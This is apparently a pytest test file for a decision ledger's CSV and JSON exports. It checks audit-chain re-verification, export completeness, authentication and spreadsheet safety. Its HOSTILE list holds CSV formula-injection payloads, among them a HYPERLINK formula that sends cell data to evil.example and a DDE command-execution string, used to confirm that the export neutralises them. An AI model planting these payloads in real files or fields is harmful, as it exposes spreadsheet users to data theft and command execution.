"""The ledger's CSV and JSON exports (API, web, CLI): whole, typed, safe to open in a spreadsheet, and the
audit chain re-verifiable from the JSON document alone."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path
from typing import Any

import pytest

from remit.audit.export import FORMULA
from remit.audit.export_records import Table
from remit.decisions.commands import OpenDecision, RecordPosition
from remit.kernel.commands import act
from remit.ledger import write_whole
from remit.seed import DEMO_TEAM
from tests.conftest import Api
from tests.integration.test_web import Browser


def recompute_chain(document: dict[str, Any]) -> tuple[int, str]:
    """What a third party runs: the chain from the export alone, with hashlib and json (docs/ledger.md)."""

    def canonical(value: Any) -> str:
        return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)

    team, prev = document["team"]["name"], document["chain"]["genesis"]
    for expected_seq, entry in enumerate(document["audit"], start=1):
        assert entry["seq"] == expected_seq, f"entry {expected_seq} is missing"
        assert entry["prev_hash"] == prev, f"entry {entry['seq']} does not follow the one before"
        body = canonical(
            {
                "team": team,
                "seq": entry["seq"],
                "at": entry["at"],
                "actor": entry["actor"],
                "kind": entry["kind"],
                "decision": entry["decision_id"],
                "payload": canonical(entry["payload"]),
            }
        )
        digest = hashlib.sha256((prev + body).encode("utf-8")).hexdigest()
        assert digest == entry["hash"], f"entry {entry['seq']} ({entry['kind']}) was altered"
        prev = digest
    return len(document["audit"]), prev


def test_a_third_party_re_verifies_the_chain_from_the_json_export_alone(api: Api) -> None:
    answer = api.client.get("/api/v1/export.json", headers=api.as_("sol"))
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["content-disposition"] == f'attachment; filename="{DEMO_TEAM}-ledger.json"'
    document = json.loads(answer.content.decode("utf-8"))
    entries, head = recompute_chain(document)
    assert (entries, head) == (document["chain"]["entries"], document["chain"]["head"])
    assert entries == api.client.get("/api/v1/audit/verify", headers=api.as_("sol")).json()["entries"]
    for version in document["charter_versions"]:  # and each charter version against its recorded hash
        assert hashlib.sha256(version["text"].encode("utf-8")).hexdigest() == version["sha256"]

    forged = json.loads(answer.content)
    forged["audit"][3]["payload"]["reason"] = "forged"
    with pytest.raises(AssertionError, match=r"entry 4 .* was altered"):
        recompute_chain(forged)
    cut = json.loads(answer.content)
    del cut["audit"][5]
    with pytest.raises(AssertionError, match="entry 6 is missing"):
        recompute_chain(cut)


def test_the_json_export_holds_the_whole_ledger_typed(api: Api) -> None:
    document = api.client.get("/api/v1/export.json", headers=api.as_("priya")).json()
    assert (document["format"], document["version"], document["team"]["name"]) == ("remit-ledger", 1, DEMO_TEAM)
    listed = api.client.get("/api/v1/decisions", params={"limit": 200}, headers=api.as_("priya")).json()["items"]
    assert [d["number"] for d in document["decisions"]] == [d["number"] for d in listed]
    first = document["decisions"][0]
    shown = api.client.get("/api/v1/decisions/1", headers=api.as_("priya")).json()
    assert (first["title"], first["state"], first["proposer"]) == (shown["title"], shown["state"], shown["proposer"])
    assert [(p["person"], p["stance"], p["reason"]) for p in first["positions"]] == [
        (p["person"], p["stance"], p["reason"]) for p in shown["positions"]
    ]
    assert first["revisions"][0]["number"] == 1 and isinstance(first["charter_version"], int)
    assert first["deadline"] is None and isinstance(first["revision"], int)
    assert {p["handle"] for p in document["people"]} >= {"priya", "ezra", "sol"}
    assert all(isinstance(p["active"], bool) for p in document["people"])
    assert document["rules"][0]["evidence"] == [
        {"name": "cost-of-delay", "role": "pm"},
        {"name": "system-risk", "role": "em"},
    ]
    assert any(d["rules"] == [1] for d in document["decisions"])
    assert all(isinstance(c["refused"], bool) for c in document["crossings"])


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "＝1+1",
]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_cell_of_the_csv_export_is_a_formula_and_every_value_round_trips(api: Api) -> None:
    reason = 'commas, "quotes",\nand a second line; ünïcödé ✓'
    numbers = []
    for title in HOSTILE:
        opened = act(api.store, DEMO_TEAM, "priya", OpenDecision(domain="release", title=title, context=reason))
        numbers.append(opened.number)
        act(api.store, DEMO_TEAM, "ezra", RecordPosition(number=opened.number, stance="go", reason=title))
    act(api.store, DEMO_TEAM, "priya", RecordPosition(number=numbers[0], stance="abstain", reason=reason))

    tables = {}
    for table in Table:
        answer = api.client.get(f"/api/v1/export/{table.value}.csv", headers=api.as_("sol"))
        assert answer.status_code == 200, answer.text
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        text = answer.content.decode("utf-8")
        assert text.startswith(",".join(read_csv(text)[0]) if read_csv(text) else "")
        tables[table] = read_csv(text)
        for row in tables[table]:
            assert not any(value.startswith(FORMULA) for value in row.values()), row

    titles = {int(row["number"]): row["title"] for row in tables[Table.DECISIONS]}
    assert [titles[number] for number in numbers] == ["'" + title for title in HOSTILE]
    reasons = [row["reason"] for row in tables[Table.POSITIONS] if int(row["decision"]) == numbers[0]]
    assert reasons == ["'" + HOSTILE[0], reason]
    contexts = {int(row["decision"]): row["context"] for row in tables[Table.REVISIONS]}
    assert contexts[numbers[-1]] == reason
    document = api.client.get("/api/v1/export.json", headers=api.as_("sol")).json()
    exact = {d["number"]: d["title"] for d in document["decisions"]}  # the JSON holds the exact value
    assert [exact[number] for number in numbers] == HOSTILE


def test_the_audit_csv_carries_the_exact_hashed_payload(api: Api) -> None:
    rows = read_csv(api.client.get("/api/v1/export/audit.csv", headers=api.as_("sol")).text)
    document = api.client.get("/api/v1/export.json", headers=api.as_("sol")).json()
    rebuilt = [
        entry
        | {
            "payload": json.loads(row["payload"]),
            "decision_id": int(row["decision_id"]) if row["decision_id"] else None,
            "seq": int(row["seq"]),
        }
        for row, entry in zip(rows, document["audit"], strict=True)
    ]
    assert recompute_chain(document | {"audit": rebuilt}) == (document["chain"]["entries"], document["chain"]["head"])


def test_the_exports_need_a_token_and_a_known_table(api: Api) -> None:
    assert api.client.get("/api/v1/export.json").status_code == 401
    assert api.client.get("/api/v1/export/decisions.csv").json()["code"] == "not_authenticated"
    unknown = api.client.get("/api/v1/export/passwords.csv", headers=api.as_("sol"))
    assert unknown.status_code == 422 and "table" in unknown.json()["message"]


def test_the_ledger_page_links_the_downloads(api: Api) -> None:
    web = Browser(api.client)
    web.sign_in("sol")
    page = web.get("/ledger")
    assert page.status_code == 200
    assert 'href="/ledger/export.json"' in page.text and 'href="/ledger/export/audit.csv"' in page.text
    assert 'href="/ledger"' in page.text and 'href="/api/v1/docs"' in page.text  # nav and footer
    document = web.get("/ledger/export.json")
    assert document.status_code == 200 and json.loads(document.content)["team"]["name"] == DEMO_TEAM
    assert web.get("/ledger/export/people.csv").text.startswith("handle,name,active\r\n")
    assert web.get("/ledger/export/nothing.csv").status_code == 422


def test_an_export_that_fails_half_way_leaves_no_file(tmp_path: Path) -> None:
    def pieces() -> Any:
        yield b"{"
        raise RuntimeError("the server went away")

    target = tmp_path / "ledger.json"
    with pytest.raises(RuntimeError):
        write_whole(target, pieces())
    assert list(tmp_path.iterdir()) == []
    assert write_whole(target, [b"{}", b"\n"]) == 3 and target.read_bytes() == b"{}\n"
